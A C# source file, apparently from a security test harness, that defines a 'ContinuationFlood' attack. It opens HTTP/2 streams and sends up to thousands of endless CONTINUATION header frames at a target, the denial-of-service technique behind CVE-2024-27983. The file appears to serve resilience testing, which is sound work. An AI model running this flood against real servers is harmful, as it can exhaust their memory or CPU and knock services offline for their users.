using ExtProc.Attacks.Running;
using ExtProc.Attacks.Wire;
using ExtProc.Tests.Transport;
using static ExtProc.Tests.Transport.RawFrames;

namespace ExtProc.Attacks.Runnings;

/// <summary>A block of header lines that never ends (CVE-2024-27983 and kin).</summary>
internal sealed class ContinuationFlood : Attack
{
    public override Attacker By => Attacker.Peer;

    public override Task RunAsync(Target target) => target.OnManyAsync(4, async peer =>
    {
        byte[] lines = RawHpack.Encode(Enumerable.Range(0, 100).Select(i => ($"x-{i}", new string('a', 100))));
        int stream = peer.NextStream();
        await peer.WriteAsync(Frame(HeadersFrame, 0, stream, RawHpack.Encode(Peer.Call())));
        for (int i = 0; i < target.Count(200, 20_000) && !peer.Gone; i++)
        {
            await peer.WriteAsync(Frame(ContinuationFrame, 0, stream, lines));
        }
    });
}
